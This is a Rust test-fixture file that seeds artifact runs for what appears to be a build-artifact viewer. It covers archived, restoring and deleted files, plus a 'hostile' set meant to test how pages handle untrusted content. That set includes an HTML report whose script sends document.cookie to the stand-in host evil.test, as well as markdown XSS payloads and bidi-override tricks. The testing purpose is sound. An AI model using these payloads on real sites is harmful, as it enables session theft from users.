//! Runs with artifacts of each kind, also with some that no longer are what they were.

use aws_sdk_s3::primitives::ByteStream;
use serde_json::json;
use shared::db::artifact_storage::{Deletion, artifact_delete};
use shared::domain::{ArtifactId, RunId};
use shared::flow::keep_artifacts::keep_artifacts;
use uuid::Uuid;

use super::clock::When;
use super::shop::{self, step};
use super::site::Site;
use super::work::{Act, Stored};
use crate::lab::{s3, sdk};

const DAYS_5: u64 = 5 * 24 * 60 * 60;
const PICTURE: &[u8] = include_bytes!("chart.png");
const REPORT: &str = "<!doctype html>\n<title>Report</title>\n<script>fetch('https://evil.test/?' + document.cookie)</script>\n<h1>42 tests</h1>\n";
const MARKUP: &str = "# Notes <img src=x onerror=alert(1)>\n\n<script>alert(1)</script>\n\n[Click](javascript:alert(1)), or see \
                      ![a picture](https://evil.test/p.png).\n\nif admin \u{202e}} // \u{2066}only here\u{2069}\n\n";

fn text(name: &'static str, media_type: &'static str, text: &str) -> Stored {
    Stored { name, kind: "text", media_type, bytes: text.into() }
}

/// Texts, a picture and archives.
pub async fn documents(site: &Site) -> RunId {
    let run = site.create("documents of each kind", &shop::documents()).await;
    let picture = Stored { kind: "image", bytes: PICTURE.into(), ..text("chart.png", "image/png", "") };
    site.act(run, "chart", Act::Store(vec![picture]));
    site.settle().await;
    site.was(run, When::seconds(25, DAYS_5)).await;
    run
}

/// Files that a page must not trust, that are too large for it, or that are gone.
pub async fn hostile(site: &Site) -> RunId {
    let steps = [step("store", "echo", &[], json!({})), step("split", "echo", &["store"], json!({}))];
    let run = site.create("files of a stranger", &steps).await;
    let line =
        |number: u32| format!("2026-11-28T10:00:{:02}Z step {number} of the build, with nothing to say\n", number % 60);
    let log: String = (0..5_000).map(line).collect();
    let unbroken = "unbreakable-name-".repeat(11) + ".txt";
    let mut files = vec![
        text("log.txt", "text/plain", &log),
        text("report.html", "text/html", REPORT),
        text("notes.md", "text/markdown", &MARKUP.repeat(2)),
        text("lies.png", "image/png", REPORT),
        text(unbroken.leak(), "text/plain; charset=\"<b>\"", "a name without a space"),
        text("broken.txt", "text/plain", ""),
        Stored { bytes: b"PK\x03\x04\x14\0\0\0".to_vec(), ..text("files.zip", "application/zip", "") },
        text("gone.md", "text/markdown", "# Gone"),
        text("changed.json", "application/json", "{\"cents\": 495}"),
    ];
    files[5].bytes = b"caf\xe9 \xff\xfe\0".to_vec();
    site.act(run, "store", Act::Store(files));
    let mut parts = vec![text("orders.csv", "text/csv", "id,cents\n1,495\n2,690\n")];
    parts.extend((0..45).map(|number| text(format!("part-{number:02}.csv").leak(), "text/csv", "id,cents\n1,495\n")));
    site.act(run, "split", Act::Store(parts));
    site.settle().await;
    site.was(run, When::seconds(9, DAYS_5)).await;
    let (client, bucket) = (s3(&sdk().await), &site.lab.ctx.config.artifacts.bucket);
    let key = format!("runs/{run}/steps/{}", site.lab.step(run, "store").await);
    client.delete_object().bucket(bucket).key(format!("{key}/gone.md")).send().await.expect("it is gone");
    let other = ByteStream::from_static(b"{\"cents\": 594}");
    client.put_object().bucket(bucket).key(format!("{key}/changed.json")).body(other).send().await.expect("changed");
    run
}

/// Artifacts that are archived, on their way back, and deleted.
pub async fn stored(site: &Site) -> RunId {
    let run = site.create("the books of last year", &[step("store", "echo", &[], json!({}))]).await;
    let books = ["archived.csv", "restoring.csv", "deleted.csv"];
    let files = books.map(|name| text(name, "text/csv", "id,cents\n1,495\n2,690\n"));
    site.act(run, "store", Act::Store(files.into()));
    site.settle().await;
    site.was(run, When::seconds(4, DAYS_5)).await;
    let lab = &site.lab;
    let id = async |name: &str| -> Uuid {
        let sql = "select id from nofx.artifact where run_id = $1 and name = $2";
        lab.admin.query_one(sql, &[&run.0, &name]).await.expect("the artifact").get(0)
    };
    let moved = "insert into nofx.artifact_storage (artifact_id, tenant_id, state, since, actor, reason, restore_days, restore_tier,
                                                    restore_requested_at, due_at)
                 select a.id, a.tenant_id, 'archived', now() - interval '3 days', 'policy', 'hot for 30 days (policy version 4)',
                        null, null, null::timestamptz, null::timestamptz
                   from nofx.artifact a where a.id = $1
                 union all
                 select a.id, a.tenant_id, 'restoring', now() - interval '20 minutes', 'ann', null,
                        7, 'standard', now() - interval '20 minutes', now() + interval '10 minutes'
                   from nofx.artifact a where a.id = $2";
    lab.admin.execute(moved, &[&id("archived.csv").await, &id("restoring.csv").await]).await.expect("moved");
    let deleted = ArtifactId(id("deleted.csv").await);
    let deletion = artifact_delete(&lab.session(), deleted, "ann", "a customer asked for it").await.expect("asked");
    assert!(matches!(deletion, Deletion::Deleted { .. }), "{deletion:?}");
    let due = "update nofx.artifact_storage set due_at = now() - interval '1 s' where artifact_id = $1";
    lab.admin.execute(due, &[&deleted.0]).await.expect("it is due");
    let kept = keep_artifacts(&lab.worker_ctx().await).await.expect("a sweep");
    assert_eq!(kept.deleted, 1, "{kept:?}");
    run
}
